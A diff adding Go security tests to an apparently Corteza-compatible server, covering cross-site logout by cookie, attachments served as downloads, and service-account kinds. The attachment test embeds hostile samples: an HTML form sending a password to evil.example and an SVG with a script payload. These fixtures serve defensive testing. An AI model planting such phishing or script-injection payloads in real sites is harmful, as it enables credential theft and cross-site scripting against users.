@@ -1,12 +1,16 @@
 package corteza_test
 
 import (
+	"bytes"
+	"context"
 	"crypto/hmac"
 	"crypto/sha256"
 	"crypto/x509"
 	"encoding/base64"
 	"encoding/json"
 	"encoding/pem"
+	"image"
+	"image/png"
 	"net/http"
 	"net/url"
 	"strconv"
@@ -14,6 +18,8 @@ import (
 	"testing"
 
 	jose "github.com/go-jose/go-jose/v4"
+
+	"usher"
 )
 
 // TestCookieCrossSite: a state-changing request that brings its JWT only in
@@ -247,4 +253,140 @@ func sign(t *testing.T, header, claims map[string]any, key []byte) string {
 	mac := hmac.New(sha256.New, key)
 	mac.Write([]byte(input))
 	return input + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil))
+}
+
+// TestCookieLogoutCrossSite: Corteza logs out by GET, and a link on another
+// site makes a browser send that GET with the jwt cookie. A log-out by the
+// cookie alone must come from usher's own pages; another site's link ends
+// nothing. A JWT in the header still logs out from anywhere, as Corteza's
+// clients send it.
+func TestCookieLogoutCrossSite(t *testing.T) {
+	t.Parallel()
+	b := setup(t)
+	cookie := func(jwt string) func(*http.Request) {
+		return func(r *http.Request) { r.AddCookie(&http.Cookie{Name: "jwt", Value: jwt}) }
+	}
+	tests := []struct {
+		name  string
+		jwt   func() string // a fresh session's JWT
+		edit  func(jwt string) func(*http.Request)
+		ended bool
+	}{
+		{"a link on another site", func() string { return b.login(t, b.user.Email) }, func(jwt string) func(*http.Request) {
+			return func(r *http.Request) {
+				cookie(jwt)(r)
+				r.Header.Set("Sec-Fetch-Site", "cross-site")
+				r.Header.Set("Sec-Fetch-Mode", "navigate")
+			}
+		}, false},
+		{"a fetch from another origin", func() string { return b.login(t, b.user.Email) }, func(jwt string) func(*http.Request) {
+			return func(r *http.Request) { cookie(jwt)(r); r.Header.Set("Origin", "https://evil.example") }
+		}, false},
+		{"usher's own page", func() string { return b.login(t, b.user.Email) }, func(jwt string) func(*http.Request) {
+			return func(r *http.Request) { cookie(jwt)(r); r.Header.Set("Sec-Fetch-Site", "same-origin") }
+		}, true},
+		{"a program with the cookie", func() string { return b.login(t, b.user.Email) }, cookie, true},
+		{"the JWT in the header, from another site", func() string { return b.login(t, b.user.Email) }, func(jwt string) func(*http.Request) {
+			return func(r *http.Request) {
+				r.Header.Set("Authorization", "Bearer "+jwt)
+				r.Header.Set("Sec-Fetch-Site", "cross-site")
+			}
+		}, true},
+	}
+	for _, tt := range tests {
+		jwt := tt.jwt()
+		res := b.send(t, "GET", "/auth/logout", nil, tt.edit(jwt))
+		msg := res.errMessage(t)
+		if res.status != http.StatusOK || tt.ended != (msg == "") || !tt.ended && !strings.Contains(msg, "did not come from this site") {
+			t.Errorf("%s: %d %s", tt.name, res.status, res.body)
+		}
+		check := b.do(t, "GET", "/auth/check", jwt, nil).errMessage(t)
+		if ended := check == "Unauthorized"; ended != tt.ended {
+			t.Errorf("%s: the session ended: %t (/auth/check: %q)", tt.name, ended, check)
+		}
+	}
+}
+
+// TestAttachmentNeverInline: an upload the core does not call inline (HTML,
+// SVG: anything but the raster images previews are made of) is sent as a
+// download however the original is asked for, so that no upload opens as
+// a page of usher's origin in the browser of whoever follows its link; a
+// raster image and its preview still show inline, with their own types.
+func TestAttachmentNeverInline(t *testing.T) {
+	t.Parallel()
+	b := setup(t)
+	var img bytes.Buffer
+	if err := png.Encode(&img, image.NewGray(image.Rect(0, 0, 4, 4))); err != nil {
+		t.Fatal(err)
+	}
+	mallory := usher.WithPrincipal(context.Background(), &usher.Principal{Kind: usher.PrincipalUser, User: b.user})
+	cookie := func(r *http.Request) { r.AddCookie(&http.Cookie{Name: "jwt", Value: b.adminJWT}) }
+	for _, f := range []struct {
+		name, body, ctype, disp string
+	}{
+		{"cat.png", `<!doctype html><html><body><form action="https://evil.example/"><input name=password type=password></form></body></html>`, "text/html", "attachment"},
+		{"logo.png", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>`, "image/svg+xml", "attachment"},
+		{"real.png", img.String(), "image/png", "inline"},
+	} {
+		a, err := b.env.Core.Attachments.Upload(mallory, usher.AttachmentUpload{Name: f.name, Body: strings.NewReader(f.body)})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !strings.HasPrefix(a.ContentType, f.ctype) {
+			t.Fatalf("%s was taken for %s", f.name, a.ContentType)
+		}
+		path := "/attachment/general/" + strconv.FormatInt(a.ID, 10) + "/original/" + f.name
+		res := b.send(t, "GET", path, nil, cookie)
+		if disp := res.header.Get("Content-Disposition"); res.status != http.StatusOK || string(res.body) != f.body ||
+			!strings.HasPrefix(disp, f.disp+";") || res.header.Get("X-Content-Type-Options") != "nosniff" {
+			t.Errorf("%s (%s): %d, Content-Disposition %q", f.name, a.ContentType, res.status, disp)
+		}
+		if f.disp != "inline" {
+			continue
+		}
+		res = b.send(t, "GET", "/attachment/general/"+strconv.FormatInt(a.ID, 10)+"/preview.png", nil, cookie)
+		if res.status != http.StatusOK || !strings.HasPrefix(res.header.Get("Content-Disposition"), "inline;") ||
+			res.header.Get("Content-Type") != "image/png" {
+			t.Errorf("preview of %s: %d %q %q", f.name, res.status, res.header.Get("Content-Type"), res.header.Get("Content-Disposition"))
+		}
+	}
+}
+
+// TestServiceAccountKeepsKind: Corteza has no service-account kind and
+// shows one as kind "", which a client sends back with an edit; the
+// account stays a service account. "" still makes a bot a normal account.
+func TestServiceAccountKeepsKind(t *testing.T) {
+	t.Parallel()
+	b := setup(t)
+	admin := usher.WithPrincipal(context.Background(), &usher.Principal{Kind: usher.PrincipalUser, User: b.admin})
+	team, err := b.env.Core.Groups.Create(admin, usher.GroupCreate{Kind: usher.GroupTeam, Handle: "deploy", Name: "Deploy"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	sa, err := b.env.Core.Groups.CreateServiceAccount(admin, usher.GroupRef{ID: team.ID}, "ci-bot", "CI")
+	if err != nil {
+		t.Fatal(err)
+	}
+	bot := b.env.MustCreateUser(t, usher.UserCreate{Username: "helper-bot", Kind: usher.KindBot})
+	for _, tt := range []struct {
+		id   int64
+		want usher.UserKind
+	}{{sa.ID, usher.KindServiceAccount}, {bot.ID, usher.KindNormal}} {
+		path := "/users/" + strconv.FormatInt(tt.id, 10)
+		var got struct {
+			Response map[string]any `json:"response"`
+		}
+		b.do(t, "GET", path, b.adminJWT, nil).decode(t, &got)
+		body := map[string]any{"name": "Renamed", "email": got.Response["email"], "handle": got.Response["handle"], "kind": ""}
+		if m := b.do(t, "PUT", path, b.adminJWT, body).errMessage(t); m != "" {
+			t.Fatalf("update of %v: %s", got.Response["handle"], m)
+		}
+		u, err := b.env.Core.Users.Get(admin, usher.UserKey{ID: tt.id})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if u.Kind != tt.want || u.Name != "Renamed" {
+			t.Errorf("%s is now of kind %q, named %q; want %q", u.Username, u.Kind, u.Name, tt.want)
+		}
+	}
 }
